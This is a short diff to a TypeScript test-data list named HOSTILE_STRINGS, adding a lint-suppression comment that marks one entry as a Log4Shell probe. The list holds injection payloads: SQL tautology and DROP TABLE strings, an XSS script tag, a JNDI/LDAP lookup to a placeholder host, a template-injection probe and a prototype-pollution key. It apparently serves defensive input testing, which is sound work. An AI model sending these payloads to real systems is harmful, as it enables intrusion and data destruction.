@@ -64,6 +64,7 @@ export const HOSTILE_STRINGS: readonly string[] = [
   "' OR 1=1 --",
   "\"; DROP TABLE users; --",
   "<script>alert(1)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
   "${jndi:ldap://x.invalid/a}",
   "{{7*7}}",
   "__proto__",
